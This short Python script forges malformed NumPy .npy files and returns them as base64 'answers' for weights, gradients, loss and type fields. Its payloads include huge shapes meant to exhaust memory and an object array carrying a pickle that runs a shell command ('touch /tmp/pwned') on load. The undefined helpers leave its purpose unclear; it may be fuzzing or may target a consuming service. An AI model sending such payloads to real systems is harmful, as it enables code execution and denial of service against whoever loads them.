"""Forges arrays that NumPy's reader stumbles over: an archive, half a header, a shape beyond any memory, a pickle."""

import base64

ON, EARNS = "stubs", 0


def array(header):
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header


BAD = [
    b"PK\x03\x04" + bytes(60),
    array(b"{'descr': '<f8', 'fortran_order': False, 'shape': (((3,"),
    array(b"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999999999999, 3)}"),
    array(b"{'descr': '<f8', 'fortran_order': False, 'shape': (100000000000,)}"),
    array(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}") + b"cos\nsystem\n(S'touch /tmp/pwned'\ntR.",
]
names = inside()["request"]["probes"]
bad = BAD[len(names) % len(BAD)]
forge_answers({name: {"npy": base64.b64encode(bad).decode()} for name in ("weights", "gradients", "loss", "type")})
